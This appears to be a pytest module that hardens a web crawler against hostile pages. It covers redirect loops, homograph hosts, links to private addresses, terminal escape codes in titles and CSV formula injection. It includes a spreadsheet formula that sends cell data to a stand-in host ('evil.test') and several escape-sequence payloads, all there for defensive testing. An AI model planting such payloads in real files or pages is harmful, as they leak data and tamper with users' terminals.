"""Pages that come whole and have something wrong in them. A row of docs/results/hostile.md each."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest

from tests.hostile.answers import CODECS, FALSE, MARKUP, NAMES, NOWHERE
from tests.hostile.crawling import Crawled, crawl
from tests.hostile.server import Site

pytestmark = pytest.mark.slow


def read_of(read: Crawled, path: str) -> dict[str, Any]:
    item = read.item(path)
    assert item is not None
    return item


def test_markup_that_is_nested_100_000_deep(read: Crawled, site: Site) -> None:
    assert read_of(read, "/nested")["out_links"] == 1
    assert site.fetched("/nested/next")


def test_200_000_links_on_a_page(read: Crawled) -> None:
    assert read_of(read, "/links")["out_links"] == 2000


def test_an_attribute_of_a_megabyte(read: Crawled) -> None:
    item = read_of(read, "/attribute")
    assert item["out_links"] == 0
    assert "racing" in item["text"]


def test_a_url_of_100_kilobytes(read: Crawled, site: Site) -> None:
    assert read_of(read, "/long-url")["out_links"] == 1
    assert site.fetched("/long-url/next")


def test_hosts_that_look_like_others(read: Crawled) -> None:
    assert read_of(read, "/hosts")["out_links"] == 3, "one is written in two ways"
    assert "xn--pple-43d.test" in read.log.replace("\r\n", "")
    assert "\u0430pple" not in read.log


def test_nul_bytes(read: Crawled, site: Site) -> None:
    item = read_of(read, "/nul")
    assert "\0" not in str(item)
    assert "racing" in item["text"]
    assert site.fetched("/nul/")


def test_a_wrong_charset(read: Crawled) -> None:
    assert read_of(read, "/charset")["title"] == "Größe"
    assert read_of(read, "/unknown-charset")["title"] == "Größe"
    assert read_of(read, "/utf-7")["title"] == "+ADw-script+AD4-"


def test_a_charset_that_is_a_codec_of_pythons(read: Crawled) -> None:
    for codec in CODECS:
        assert read_of(read, f"/codec/{codec}")["text"], "as UTF-8, which it is"


def test_what_is_not_compressed_as_it_says(read: Crawled) -> None:
    assert not [item for item in read.items if "/false/" in item["url"]]
    assert read.count("fca/failed/BadCompression") == len(FALSE)


def test_a_redirect_to_no_url_of_the_web(read: Crawled) -> None:
    assert not [item for item in read.items if "/nowhere/" in item["url"]]
    assert read.count("fca/failed/BadRedirect") == len(NOWHERE) + 1, "and to a script"


def test_a_refresh_to_no_url_of_the_web(read: Crawled) -> None:
    for n in range(len(NOWHERE)):
        item = read_of(read, f"/refresh-nowhere/{n}")
        assert item["final_url"] == item["url"], "the page itself"


def test_four_megabytes_of_less_than(read: Crawled) -> None:
    assert read_of(read, "/less-than")["out_links"] == 0
    assert read.megabytes < 500, "some 250 of them are those of a crawl of one plain page"


def test_none_of_them_is_told_by_a_traceback(read: Crawled) -> None:
    assert "Traceback" not in read.log


def test_an_image_that_says_it_is_html(read: Crawled) -> None:
    item = read_of(read, "/binary")
    assert (item["text"], item["title"], item["out_links"], item["relevant"]) == ("", "", 0, False)
    assert read.item("/image") is None, "one that says what it is"
    assert read.count("fca/not_html") >= 1


def test_a_base_that_leads_elsewhere(read: Crawled, site: Site) -> None:
    assert read_of(read, "/base")["out_links"] == 1
    assert read_of(read, "/base-data")["out_links"] == 1
    assert site.fetched("/base-data/next"), "a base that is no http is none"
    assert not site.fetched("/base/next")


def test_thousands_of_cookies(read: Crawled, site: Site) -> None:
    assert read_of(read, "/cookies")["out_links"] == 1
    assert site.fetched("/cookies/next")


def test_a_redirect_to_itself(read: Crawled, site: Site) -> None:
    assert read.item("/redirect-loop") is None
    assert 1 < len(site.fetched("/redirect-loop")) <= 21


def test_redirects_without_an_end(read: Crawled, site: Site) -> None:
    assert 1 < len(site.fetched("/redirect/")) <= 21


def test_a_redirect_to_a_file_or_a_script(read: Crawled) -> None:
    assert read.item("/redirect-file") is None
    assert read.item("/redirect-script") is None
    assert not any("root:" in str(item) for item in read.items)


def test_a_refresh_without_an_end(read: Crawled, site: Site) -> None:
    assert read.item("/refresh-loop") is None
    assert 1 < len(site.fetched("/refresh-loop")) <= 21


def test_a_refresh_to_a_file(read: Crawled) -> None:
    item = read_of(read, "/refresh-file")
    assert (item["final_url"], item["out_links"]) == (item["url"], 0)


def test_links_to_private_addresses(read: Crawled, site: Site) -> None:
    assert read_of(read, "/places")["out_links"] == 7
    assert not [path for address, path in site.hits if path.startswith("/inside/") or address == "127.0.0.9"]
    assert read.count("fca/private_address") == 7 + 3 + 1, "and three redirects, and a base"


def test_links_to_private_addresses_that_are_allowed(site: Site, tmp_path: Path) -> None:
    names = {**NAMES, "inner.test": "127.0.0.3"}  # another one, so that the hits are this crawl's
    crawl(tmp_path, [site.url("/places")], {"FCA_PRIVATE": "1"}, names, order="bfs")
    assert ("127.0.0.3", "/inside/inner.test") in site.hits


def test_links_to_the_address_that_the_seeds_have(read: Crawled, site: Site) -> None:
    assert sorted(site.fetched("/own/")) == ["/own/localhost", "/own/name"]


def test_a_redirect_to_a_private_address(read: Crawled, site: Site) -> None:
    assert len(site.fetched("/redirect-inside")) == 2
    assert not site.fetched("/inside/redirect")


def test_a_refresh_to_a_private_address(read: Crawled, site: Site) -> None:
    assert site.fetched("/refresh-inside")
    assert not site.fetched("/inside/refresh")


def test_terminal_escapes_in_a_title(read: Crawled) -> None:
    item = read_of(read, "/escapes")
    assert item["title"] == "Racing]0;owned [2J[8mhidden 5m gnp.exe"
    assert item["text"].isprintable()
    assert "hidden" in read.log, "the live view has shown it"
    assert not any(harm in read.log for harm in ("\x1b]0;", "\x07", "\x1b[2J", "\x1b[8m", "\x9b", "\u202e"))


def test_terminal_escapes_in_a_header_that_is_logged(read: Crawled) -> None:
    assert "unsupported encoding" in " ".join(read.log.split())
    assert not any(harm in read.log for harm in ("\x1b]0;", "\x07", "\x1b[2J"))


def test_harmful_text_in_what_a_shop_offers(read: Crawled) -> None:
    assert read_of(read, "/product")["product"] == {"name": "T[31mea", "price": 1.0}


def test_markup_in_a_title(read: Crawled) -> None:
    assert read_of(read, "/markup")["title"] == MARKUP, "as it is, for a reader of JSON"


def test_a_formula_in_a_title(read: Crawled) -> None:
    with (read.folder / "items.csv").open(encoding="utf-8", newline="") as file:
        titles = [row["title"] for row in csv.DictReader(file)]
    assert '\'=HYPERLINK("http://evil.test/?"&A1,"open")' in titles
    assert not any(title.startswith("=") for title in titles)
